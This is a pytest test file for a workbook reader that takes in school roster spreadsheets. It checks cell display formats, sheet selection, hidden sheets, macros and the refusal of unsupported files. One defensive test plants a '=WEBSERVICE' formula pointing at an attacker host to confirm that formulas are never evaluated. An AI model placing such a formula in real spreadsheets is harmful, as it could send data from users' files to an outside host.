"""Workbooks that schools upload: what a person sees in the cells is what is read, from the right sheets."""

from datetime import UTC, date, datetime, time
from typing import Any

import pytest

from latchkey.office_files.model.unusable import Unusable
from tests.support.workbooks import HEADER, excel, opened, packed, raw, table, texts, written

PEOPLE = [["mis_id", "role", "given_name", "family_name"], ["S1", "student", "Ada", "Khan"], ["S2", "student", "Zoë", "O’Neil"]]


def cells_of(content: bytes) -> list[list[str]]:
    return [cells for _, cells in table(content)[1]]


def refused(content: bytes) -> str:
    with pytest.raises(Unusable) as caught:
        table(content)
    return caught.value.detail


def one(value: Any, form: str | None = None) -> str:
    """A value in a cell as the reader shows it."""

    def fill(book: Any) -> None:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["mis_id", "role", "forename"])
        sheet.write(1, 0, value, book.add_format({"num_format": form}) if form else None)

    ((shown, *_),) = cells_of(written(fill, default_date_format="dd/mm/yyyy", remove_timezone=True))
    return shown


def test_a_workbook_is_read_as_its_text() -> None:
    header, rows = table(excel(("People", PEOPLE)))
    assert header == PEOPLE[0]
    assert rows == [(2, PEOPLE[1]), (3, PEOPLE[2])]


@pytest.mark.parametrize(
    ("value", "form", "shown"),
    [
        (1901, None, "1901"),
        (1901, "000000", "001901"),
        (1901, "000-000", "001-901"),
        (7, '"S"0000', "S0007"),
        (1901, "#,##0", "1901"),
        (1901, "0.00E+00", "1901"),
        (447700900123, None, "447700900123"),
        (1234567890123, "General", "1234567890123"),
        (0.1, None, "0.1"),
        (7.0, None, "7"),
        (-3, "000", "-3"),
        (12.5, "0.00", "12.50"),
        (0.5, "0%", "50%"),
        (1901, "[Red]0000000;-0", "0001901"),
        (5, "@", "5"),
        (True, None, "TRUE"),
        (False, None, "FALSE"),
        (date(2026, 10, 7), None, "07/10/2026"),
        (date(2026, 10, 7), "mm/dd/yyyy", "07/10/2026"),
        (date(2026, 10, 7), "d mmmm yyyy", "07/10/2026"),
        (date(2026, 10, 7), "yyyy-mm-dd", "2026-10-07"),
        (date(2026, 10, 7), "d-mmm", "7-Oct"),
        (date(2026, 10, 7), "mmm-yy", "Oct-26"),
        (date(2026, 10, 7), "[$-809]dddd", "Wednesday"),
        (datetime(2026, 10, 7, 9, 5, tzinfo=UTC), "dd/mm/yyyy hh:mm", "07/10/2026 09:05"),
        (time(9, 5), "hh:mm", "09:05"),
        (time(15, 5, 9), "h:mm:ss AM/PM", "3:05:09 PM"),
        (-1, "dd/mm/yyyy", "-1"),
        (3_000_000, "dd/mm/yyyy", "3000000"),
        (" padded ", None, " padded "),
        ("=1+1", None, "=1+1"),
        ("a_x000D_b", None, "a_x000D_b"),
    ],
)
def test_a_cell_is_what_a_person_sees(value: Any, form: str | None, shown: str) -> None:
    if isinstance(value, str):
        assert cells_of(excel(("People", [*PEOPLE[:1], [value, "student", "Ada", "Khan"]])))[0][0] == shown
    else:
        assert one(value, form) == shown


def test_a_formula_is_its_stored_result_and_is_never_calculated() -> None:
    def fill(book: Any) -> None:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, PEOPLE[0])
        sheet.write_formula(1, 0, '="S"&1', None, "S1")
        sheet.write_formula(1, 1, '=WEBSERVICE("https://attacker.example/")', None, "student")
        sheet.write_formula(1, 2, "=NA()", None, "#N/A")
        sheet.write_formula(1, 3, "=1+1", None, 3)

    assert cells_of(written(fill)) == [["S1", "student", "#N/A", "3"]]


def test_a_formula_without_a_result_is_named() -> None:
    file = opened(raw(HEADER + '<row r="2"><c r="A2"><f>B1</f></c><c r="B2"><v>5</v></c></row>'))
    assert table(file)[1] == [(2, ["", "5", "", ""])]
    assert "Cell A2 of the sheet Sheet1 holds a formula without its result" in " ".join(file.warnings)


def test_rich_text_is_read_and_how_it_is_pronounced_is_not() -> None:
    strings = "<si><r><t>Am</t></r><r><t>y</t></r><rPh><t>spoken</t></rPh></si><si><t>x_x000D_y_x005F_x</t></si>"
    inline = '<c t="inlineStr"><is><r><t>A</t></r><r><t>b</t></r><rPh><t>no</t></rPh></is></c>'
    content = raw(HEADER + f'<row r="2"><c t="s"><v>0</v></c><c t="s"><v>1</v></c>{inline}</row>', strings=strings)
    assert cells_of(content) == [["Amy", "x\ry_x", "Ab", ""]]


def test_prefixes_missing_references_and_an_old_calendar_are_understood() -> None:
    rows = (
        '<x:row><x:c t="str"><x:v>mis_id</x:v></x:c><x:c t="str"><x:v>role</x:v></x:c><x:c t="str"><x:v>dob</x:v></x:c></x:row>'
    )
    rows += '<x:row><x:c><x:v>1.9E1</x:v></x:c><x:c/><x:c s="1"><x:v>44840</x:v></x:c></x:row>'
    properties = '<workbookPr date1904="1"/>'
    assert cells_of(raw(rows, prefix="x:", properties=properties)) == [["19", "", "07/10/2026"]]


def test_the_header_is_found_below_merged_titles() -> None:
    def fill(book: Any) -> None:
        sheet = book.add_worksheet()
        sheet.merge_range(0, 0, 0, 3, "Northbridge School: all pupils")
        sheet.merge_range(2, 0, 2, 3, "Printed on 7 October")
        for number, row in enumerate(PEOPLE):
            sheet.write_row(9 + number, 1, row)

    header, rows = table(written(fill))
    assert header == ["", *PEOPLE[0]]
    assert rows == [(11, ["", *PEOPLE[1]]), (12, ["", *PEOPLE[2]])]


def test_the_sheet_with_the_best_known_header_is_read_and_the_others_are_named() -> None:
    notes = [["Please read", "id"], ["this first", "1"]]
    file = opened(excel(("Notes", notes), ("People", PEOPLE), ("Empty", [])))
    assert [cells for _, cells in table(file)[1]] == PEOPLE[1:]
    assert file.warnings == ["Only the sheet People was read. Not read: Notes."]


def test_sheets_with_the_same_header_are_one_table() -> None:
    more = [["MIS_ID", " role", "given_name", "family_name "], ["S3", "student", "Cai", "Rhys"]]
    file = opened(excel(("7A", PEOPLE), ("Rooms", [["Room"], ["1"]]), ("7B", more)))
    assert table(file)[1] == [(2, PEOPLE[1]), (3, PEOPLE[2]), (5, more[1])]
    assert file.warnings[0].startswith("2 sheets have the same header and were read as one table: 7A, 7B. ")
    assert file.warnings[1] == "Not read: Rooms."


def test_hidden_sheets_are_never_read() -> None:
    file = opened(
        raw(HEADER + texts(2, "S1", "student", "Ada", "Khan"), HEADER + texts(2, "X", "student", "Old", "Leaver"), hidden=[2])
    )
    assert [cells[0] for _, cells in table(file)[1]] == ["S1"]
    assert file.warnings == ["Only the sheet Sheet1 was read. Not read: Sheet2 (hidden)."]
    assert "hidden" in refused(raw(HEADER, hidden=[1]))


def test_a_workbook_with_macros_is_taken_as_its_sheets() -> None:
    content = raw(
        HEADER + texts(2, "S1", "student", "Ada", "Khan"), others=[("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"x" * 999)]
    )
    assert cells_of(content) == [["S1", "student", "Ada", "Khan"]]


def test_a_cell_beyond_the_header_costs_nobody() -> None:
    rows = HEADER + '<row r="2"><c r="A2" t="str"><v>S1</v></c><c r="Z2" t="str"><v>checked by J.</v></c></row>'
    assert cells_of(raw(rows)) == [["S1", "", "", ""]]


def test_a_zip_with_one_table_is_read() -> None:
    book = excel(("People", PEOPLE))
    assert cells_of(packed([("export/people.xlsx", book), ("__MACOSX/export/._people.xlsx", b"x")])) == PEOPLE[1:]
    text = "\r\n".join("\t".join(row) for row in PEOPLE).encode()
    assert cells_of(packed([("people.tsv", text), ("read me.pdf", b"%PDF")])) == PEOPLE[1:]
    assert "one table" in refused(packed([("a.xlsx", book), ("b.xlsx", book)]))
    assert "another zip" in refused(packed([("a.xlsx", packed([("b.csv", b"x")]))]))
    assert "another zip" in refused(packed([("a.csv", packed([("b.csv", b"x")]))]))


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old kind (.xls), or one with a password"),
        (packed([("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), ("b.pdf", b"x")]), "one table"),
        (packed([("a.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")]), "old kind (.xls)"),
        (packed([("[Content_Types].xml", "<Types/>"), ("xl/workbook.bin", b"x")]), "(.xlsb)"),
        (packed([("[Content_Types].xml", "<Types/>"), ("word/document.xml", b"x")]), "Word document"),
        (packed([("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", b"x")]), "OpenDocument"),
        (packed([("Index/Document.iwa", b"x")]), "Numbers"),
        (packed([("[Content_Types].xml", "<Types/>")]), "not a workbook that we can read"),
        (raw(""), "is empty"),
        (excel(("Empty", [])), "is empty"),
    ],
)
def test_what_is_no_workbook_is_refused_with_the_way_out(content: bytes, words: str) -> None:
    assert words in refused(content)


def test_all_rows_of_a_large_workbook_come_and_each_pass_begins_anew() -> None:
    rows = [PEOPLE[0], *([f"S{number}", "student", f"Given{number % 90}", f"Family{number}"] for number in range(1, 1001))]
    file = opened(excel(("People", rows)))
    assert table(file) == table(file)
    assert [cells for _, cells in table(file)[1]] == rows[1:]
